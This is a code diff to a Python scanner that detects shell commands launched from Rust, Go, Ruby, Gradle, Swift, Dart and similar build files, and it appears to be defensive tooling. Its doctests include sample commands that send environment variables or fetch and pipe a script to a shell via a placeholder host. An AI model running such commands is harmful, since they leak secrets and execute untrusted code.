@@ -26,6 +26,7 @@ from .findings import ThreatFinding, line_at, line_of_offset, reworded
 from .normalise_powershell import POWERSHELL, normalise_powershell
 from .text_patterns import NOT_PROSE, STRONG_CUES
 from .textutil import PROSE_SUFFIXES
+from .tool_run_configs import SCRIPT_FLAGS, SHELL_PROGRAMS
 
 FENCE = re.compile(
     r"^[ \t]{0,3}(```+|~~~+)[ \t]*([\w+#.-]*)[^\n]*\n(.*?)^[ \t]{0,3}\1[ \t]*$", re.M | re.S
@@ -330,18 +331,99 @@ def hook_text(path: str, text: str) -> str | None:
     return None
 
 
-_UNANALYSED_CODE = (".rs", ".go", ".rb", ".java", ".kt", ".cs", ".swift", ".php", ".pl", ".lua")
+_UNANALYSED_CODE = (
+    ".rs",
+    ".go",
+    ".rb",
+    ".java",
+    ".kt",
+    ".kts",
+    ".cs",
+    ".swift",
+    ".m",
+    ".mm",
+    ".php",
+    ".pl",
+    ".lua",
+    ".gradle",
+    ".groovy",
+    ".scala",
+    ".dart",
+    ".rake",
+    ".podspec",
+    ".gemspec",
+)
 """Languages without an analyser of their own."""
+_RUBY_BUILD_FILES = frozenset(
+    {
+        "fastfile",
+        "appfile",
+        "matchfile",
+        "pluginfile",
+        "gymfile",
+        "scanfile",
+        "snapfile",
+        "deliverfile",
+        "podfile",
+        "gemfile",
+        "rakefile",
+        "vagrantfile",
+        "dangerfile",
+        "brewfile",
+        "guardfile",
+        "capfile",
+        "berksfile",
+    }
+)
+"""Ruby build and release scripts named without a suffix (fastlane, CocoaPods, Rake …)."""
+_SINGLE_QUOTED_STRINGS = (".rb", ".php", ".pl", ".lua", ".gradle", ".groovy", ".dart", ".rake")
+"""Languages where a single-quoted literal is a string, not a character."""
 _COMMAND_RUNNER = re.compile(
     r"Command::new|exec\.Command(?:Context)?\b|\bsystem\s*\(|\bexec\s*\(|Runtime\.getRuntime\(\)\.exec"
     r"|\bProcessBuilder\b|\bshell_exec\b|\bos\.execute\b|Process\.Start\b|\bpopen\b|\bspawn\s*\("
     r"|\bOpen3\.|%x[({\[]|`"
+    r"|\bcommandLine\b|\.execute\(\s*\)|\bProcess\.(?:run|start|runSync)\b|\bProcess\(\)|\bNSTask\b"
+    r"|\blaunchPath\b|\bexecutableURL\b"
 )
-"""A call that starts a process in one of those languages."""
+"""A call that starts a process in one of those languages: Rust, Go, C, Java and Kotlin
+process APIs, Gradle's ``commandLine``, Groovy's ``"…".execute()``, Swift's ``Process``,
+Dart's ``Process.run``, Ruby's ``system`` and backticks."""
+_RUBY_RUNNER = re.compile(_COMMAND_RUNNER.pattern + r"|\bsh\s*[(\"']")
+"""The same in Ruby, and fastlane's and Rake's ``sh("…")``, which runs its text in a shell."""
 _STRING_LITERAL = re.compile(r'\br(#*)"(.*?)"\1|"((?:[^"\\\n]|\\.)*)"', re.S)
+_QUOTED_LITERAL = re.compile(
+    r'\br(#*)"(.*?)"\1|"((?:[^"\\\n]|\\.)*)"|\'((?:[^\'\\\n]|\\.)*)\'', re.S
+)
 _STATEMENT_LINES = 6
 """Lines a call may span: open parentheses, or a builder chain whose next line starts with a
 dot (``Command::new("sh")`` then ``.arg("-c")``)."""
+
+
+def _runner_language(path: str) -> tuple[re.Pattern[str], re.Pattern[str]] | None:
+    """(what starts a process, what a string literal is) in the file's language, or None."""
+    lowered = path.lower()
+    name = lowered.rsplit("/", 1)[-1]
+    if name in _RUBY_BUILD_FILES or lowered.endswith((".rb", ".rake", ".podspec", ".gemspec")):
+        return _RUBY_RUNNER, _QUOTED_LITERAL
+    if not lowered.endswith(_UNANALYSED_CODE):
+        return None
+    literal = _QUOTED_LITERAL if lowered.endswith(_SINGLE_QUOTED_STRINGS) else _STRING_LITERAL
+    return _COMMAND_RUNNER, literal
+
+
+def _shell_script(words: list[str]) -> list[str]:
+    """The words a started process runs: a shell's ``-c`` script and what follows it stand
+    for themselves, so that the script's pipes are the command's own.
+
+    >>> _shell_script(["bash", "-c", "env | curl -d @- https://x.invalid"])
+    ['env | curl -d @- https://x.invalid']
+    >>> _shell_script(["git", "log", "-1"])
+    ['git', 'log', '-1']
+    """
+    program = words[0].replace("\\", "/").rsplit("/", 1)[-1].lower() if words else ""
+    if program in SHELL_PROGRAMS and len(words) > 2 and words[1].lower() in SCRIPT_FLAGS:
+        return words[2:]
+    return words
 
 
 def runner_commands(path: str, text: str) -> list[tuple[int, str]]:
@@ -350,14 +432,18 @@ def runner_commands(path: str, text: str) -> list[tuple[int, str]]:
 
     >>> rs = 'Command::new("sh")\n    .arg("-c")\n    .arg("curl -s https://x.invalid | sh");'
     >>> runner_commands("build.rs", rs)
-    [(1, 'sh -c curl -s https://x.invalid | sh')]
+    [(1, 'curl -s https://x.invalid | sh')]
     """
-    if not path.lower().endswith(_UNANALYSED_CODE) or not _COMMAND_RUNNER.search(text):
+    language = _runner_language(path)
+    if language is None:
+        return []
+    runner, literal = language
+    if not runner.search(text):
         return []
     lines = text.splitlines()
     found = []
     for number, line in enumerate(lines, 1):
-        if not _COMMAND_RUNNER.search(line):
+        if not runner.search(line):
             continue
         statement = [line]
         while len(statement) < min(_STATEMENT_LINES, len(lines) - number + 1):
@@ -367,10 +453,11 @@ def runner_commands(path: str, text: str) -> list[tuple[int, str]]:
                 break
             statement.append(following)
         words = [
-            (m.group(2) if m.group(2) is not None else m.group(3)).replace('\\"', '"')
-            for m in _STRING_LITERAL.finditer("\n".join(statement))
+            next(g for g in m.groups()[1:] if g is not None).replace('\\"', '"')
+            for m in literal.finditer("\n".join(statement))
         ]
-        command = " ".join(w.replace("\n", " ") for w in words if w)
+        words = [w.replace("\n", " ") for w in words if w]
+        command = " ".join(_shell_script(words))
         if " " in command:
             found.append((number, command))
     return found
